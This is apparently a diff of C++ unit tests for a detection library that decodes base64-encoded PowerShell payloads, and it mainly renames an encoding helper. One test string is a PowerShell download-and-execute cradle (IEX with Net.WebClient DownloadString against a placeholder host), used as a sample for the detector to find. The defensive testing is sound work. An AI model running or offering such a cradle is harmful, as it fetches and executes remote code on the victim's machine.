@@ -5,13 +5,14 @@
 #include <string>
 #include <vector>
 
+#include "base/base64.h"
 #include "rules/sigma_encoding.h"
 
 namespace picket::rules {
 namespace {
 
 std::string encoded(const std::string& script) {
-  return base64_text(utf16_bytes(script, ByteOrder::kLittle));
+  return to_base64(utf16_bytes(script, ByteOrder::kLittle));
 }
 
 TEST(Base64Decode, EveryAbbreviationOfEncodedCommand) {
@@ -53,14 +54,14 @@ TEST(Base64Decode, OrdinaryArgumentsAreNotPayloads) {
 
 TEST(Base64Decode, LongRunsAnywhere) {
   const std::string script = "IEX (New-Object Net.WebClient).DownloadString('http://h/x')";
-  const std::string line = "[Convert]::FromBase64String(\"" + base64_text(script) + "\")";
+  const std::string line = "[Convert]::FromBase64String(\"" + to_base64(script) + "\")";
   const std::vector<Base64Payload> found = decode_base64_payloads(line);
   ASSERT_EQ(found.size(), 1u);
   EXPECT_EQ(found[0].text, script);
   EXPECT_FALSE(found[0].encoded_command);
   EXPECT_EQ(decode_base64_payloads("x='" + encoded(script) + "'").at(0).text, script);
   const std::string program = "MZ" + std::string(60, '\x90');
-  EXPECT_EQ(decode_base64_payloads(base64_text(program)).at(0).text, program);
+  EXPECT_EQ(decode_base64_payloads(to_base64(program)).at(0).text, program);
 }
 
 TEST(Base64Decode, NestedPayloadsAreFoundAndBounded) {
@@ -74,7 +75,7 @@ TEST(Base64Decode, NestedPayloadsAreFoundAndBounded) {
   std::string many;
   for (int i = 0; i < 100; ++i) many += "-e bABzAA== ";
   EXPECT_EQ(decode_base64_payloads(many).size(), 16u);
-  const std::string large = base64_text(std::string(10'000, 'a'));
+  const std::string large = to_base64(std::string(10'000, 'a'));
   EXPECT_TRUE(decode_base64_payloads(large, {.decoded_bytes_max = 1'000}).empty());
   EXPECT_EQ(decode_base64_payloads(std::string(3'000'000, 'A')).size(), 0u);
 }
